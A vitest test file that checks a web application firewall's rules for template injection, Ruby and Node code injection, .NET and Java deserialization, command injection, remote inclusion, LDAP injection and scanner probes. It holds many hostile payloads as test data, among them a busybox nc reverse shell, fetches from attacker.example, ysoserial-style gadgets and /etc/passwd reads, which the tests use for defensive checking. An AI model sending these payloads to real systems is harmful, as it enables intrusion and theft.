import { describe, it } from 'vitest';
import type { EdgeRequest } from '../../../lambdas/core/edge-request.ts';
import { BROWSER_HEADERS, expectBlocked, expectDetected, expectNotFlaggedBy, form, get, json, waf } from './helpers.ts';

/*
 * Code, command and path attack styles from public sources the development corpus does not carry:
 * HackTricks' Twig and ERB template RCE, Ruby process calls, ysoserial.net gadgets, commix here-string
 * evasion, SMB/WebDAV remote inclusion, classic PHP web shells, LDAP wildcard break-outs and the
 * endpoints that mass exploit scanners probe.
 */

const q = (value: string): EdgeRequest => get(`/search?q=${encodeURIComponent(value)}`);
const cookie = (value: string): EdgeRequest =>
  get('/search', { ...BROWSER_HEADERS, cookie: `session=abc; pref=${encodeURIComponent(value)}` });

describe('WAF template injection: Twig callbacks and ERB backticks (SSTI-130)', () => {
  it.each([
    ["Twig's filter given system", q("{{['id']|filter('system')}}")],
    ["Twig's map given passthru in JSON", json({ name: '{{["cat /etc/passwd"]|map("passthru")|join}}' })],
    ['an ERB backtick command', form(`bio=${encodeURIComponent('<%= `ls /` %>')}`)],
  ])('blocks %s at sensitivity 70', (_name, req) => {
    expectBlocked(req, 'SSTI-130');
  });

  it.each([
    ['a Twig filter with an arrow function', q('{{ users|filter(u => u.active)|map(u => u.name)|join(", ") }}')],
    ['an ERB tag printing a variable', q('<%= user.name %>')],
    ['Markdown inline code in prose', q('use the `filter` function, e.g. <% if x %>')],
  ])('allows %s', (_name, req) => {
    expectNotFlaggedBy(req, 'SSTI-130');
  });
});

describe('WAF code injection: Ruby process execution (RUBY-100)', () => {
  it.each([
    ['Kernel.exec with a string', json({ template: 'Kernel.exec("id")' })],
    ['IO.popen in a cookie', cookie("IO.popen('id').read")],
    ['Open3.capture2e', q("Open3.capture2e('cat /etc/passwd')")],
    ['a %x() literal', q('%x(id)')],
  ])('blocks %s at sensitivity 70', (_name, req) => {
    expectBlocked(req, 'RUBY-100');
  });

  it.each([
    ['prose about the kernel', q('the kernel exec path was rewritten')],
    ['a percent sign before x', q('50%x more')],
  ])('allows %s', (_name, req) => {
    expectNotFlaggedBy(req, 'RUBY-100');
  });
});

describe('WAF deserialization: ysoserial.net gadgets (DOTNET-100)', () => {
  it.each([
    [
      'a Json.NET ObjectDataProvider',
      form(
        `data=${encodeURIComponent('{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]}}')}`,
      ),
    ],
    ['a WindowsIdentity $type', json({ p: '{"$type":"System.Security.Principal.WindowsIdentity, mscorlib"}' })],
    [
      'a TextFormattingRunProperties $type',
      q(
        '{"$type":"Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties, Microsoft.PowerShell.Editor","ForegroundBrush":"<ResourceDictionary/>"}',
      ),
    ],
  ])('blocks %s at sensitivity 70', (_name, req) => {
    expectBlocked(req, 'DOTNET-100');
  });

  it('allows WPF documentation that names ObjectDataProvider', () => {
    expectNotFlaggedBy(q('Bind the list to an ObjectDataProvider resource in XAML.'), 'DOTNET-100');
  });
});

describe('WAF command injection: here-string inside a command substitution (RCE-211)', () => {
  it.each([
    ['a reversed command', q("$(rev<<<'di')")],
    ['base64 decoding in backticks', q('`base64 -d<<<aWQK`')],
  ])('blocks %s at sensitivity 70', (_name, req) => {
    expectDetected(req, 'RCE-211');
  });

  it('allows a C++ stream shift', () => {
    expectNotFlaggedBy(q('std::cout <<< value'), 'RCE-211');
  });
});

describe('WAF remote inclusion: UNC shares and named web shells (RFI-160, RFI-110)', () => {
  it.each([
    ['a UNC path to an IP', form(`file=${encodeURIComponent('\\\\203.0.113.5\\share\\x.php')}`)],
    ['a WebDAV UNC path', q('\\\\attacker.example@SSL\\DavWWWRoot\\x.php')],
  ])('blocks %s at sensitivity 70', (_name, req) => {
    expectBlocked(req, 'RFI-160');
  });

  it('allows a UNC path to a named intranet server', () => {
    expectNotFlaggedBy(q('\\\\fileserver\\docs\\report.pdf'), 'RFI-160');
  });

  it('blocks an r57 shell fetched over FTP at sensitivity 70', () => {
    expectBlocked(json({ name: 'ftp://attacker.example/r57.txt' }), 'RFI-110');
  });

  it('allows a plain link to a text file', () => {
    expectNotFlaggedBy(q('https://example.com/notes/readme.txt'), 'RFI-110');
  });
});

describe('WAF LDAP injection: wildcard closed before a doubled open (LDAP-100)', () => {
  it('blocks admin*)((|userPassword=*) at sensitivity 70', () => {
    expectBlocked(json({ user: 'admin*)((|userPassword=*)' }), 'LDAP-100');
  });

  it('allows a C call through a function pointer', () => {
    expectNotFlaggedBy(q('(*handler)((|flags))'), 'LDAP-100');
  });
});

describe('WAF scanners: endpoints of mass-scanned exploits (SCAN-210)', () => {
  it.each([
    ["PHPUnit's eval-stdin.php", get('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php')],
    ['Laravel Ignition', get('/_ignition/execute-solution')],
    ['D-Link HNAP', get('/HNAP1/')],
    ['a GPON router form', get('/GponForm/diag_Form?images/')],
    ['Spring Boot gateway routes', get('/actuator/gateway/routes')],
  ])('blocks %s at sensitivity 70', (_name, req) => {
    expectBlocked(req, 'SCAN-210');
  });

  it.each([
    ['a route that merely contains the word ignition', get('/cars/ignition/parts')],
    ['a Spring Boot health check', get('/actuator/health')],
  ])('allows %s', (_name, req) => {
    expectNotFlaggedBy(req, 'SCAN-210');
  });
});

describe('WAF deserialization: Fastjson and Jackson polymorphic types (JAVA-160)', () => {
  it.each([
    [
      'a Fastjson @type gadget',
      json({ user: '{"@type":"org.apache.xbean.propertyeditor.JndiConverter","AsText":"ldap://x"}' }),
    ],
    ['a Jackson typed pair', q('["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://x/a"}]')],
  ])('blocks %s at sensitivity 70', (_name, req) => {
    expectBlocked(req, 'JAVA-160');
  });

  it('allows a JSON-LD @type', () => {
    expectNotFlaggedBy(q('{"@type":"Person","name":"Ada"}'), 'JAVA-160');
  });
});

describe('WAF code injection: eval of decoded text (NODE-180)', () => {
  it('blocks eval(Buffer.from(…, base64)) at sensitivity 70', () => {
    expectBlocked(form(`page=${encodeURIComponent("eval(Buffer.from('aWQ=','base64').toString())")}`), 'NODE-180');
  });

  it('allows decoding without eval', () => {
    expectNotFlaggedBy(q("const s = Buffer.from(data, 'base64').toString()"), 'NODE-180');
  });
});

describe('WAF template probes: Smarty and doT (SSTI-100)', () => {
  it.each([
    ['the Smarty version probe', q('{$smarty.version}')],
    ['doT arithmetic', json({ id: '{{= 7*7}}' })],
  ])('blocks %s at sensitivity 70', (_name, req) => {
    expectBlocked(req, 'SSTI-100');
  });

  it('allows a doT template printing a field', () => {
    expectNotFlaggedBy(q('{{= it.name }}'), 'SSTI-100');
  });
});

describe('WAF command injection: BusyBox applets and WMIC verbs (RCE-212)', () => {
  it.each([
    ['busybox nc', q(';busybox nc 203.0.113.8 4444 -e sh')],
    ['wmic process call create', form(`host=${encodeURIComponent('| wmic process call create "cmd /c calc"')}`)],
  ])('blocks %s at sensitivity 70', (_name, req) => {
    expectBlocked(req, 'RCE-212');
  });

  it('allows prose about BusyBox', () => {
    expectNotFlaggedBy(
      q('BusyBox combines tiny versions of many common UNIX utilities; wmic is deprecated'),
      'RCE-212',
    );
  });
});

describe('WAF scanners: GraphQL introspection and info pages (SCAN-230, SCAN-210)', () => {
  it('challenges or blocks an introspection query at sensitivity 80', () => {
    expectDetected(
      get(`/graphql?query=${encodeURIComponent('{__schema{types{name}}}')}`),
      'SCAN-230',
      waf({ sensitivityScore: 80 }),
    );
  });

  it('lets a code generator introspect at the default sensitivity 70', () => {
    expectNotFlaggedBy(get(`/graphql?query=${encodeURIComponent('{__schema{types{name}}}')}`), 'SCAN-230');
  });

  it('allows an ordinary GraphQL query', () => {
    expectNotFlaggedBy(get(`/graphql?query=${encodeURIComponent('{user(id:1){name}}')}`), 'SCAN-230');
  });

  it.each([
    ['a phpinfo page', get('/phpinfo.php')],
    ['a docker-compose file', get('/docker-compose.yml')],
    ["Jenkins' script console", get('/jenkins/script')],
  ])('blocks a probe for %s at sensitivity 70', (_name, req) => {
    expectBlocked(req, 'SCAN-210');
  });
});
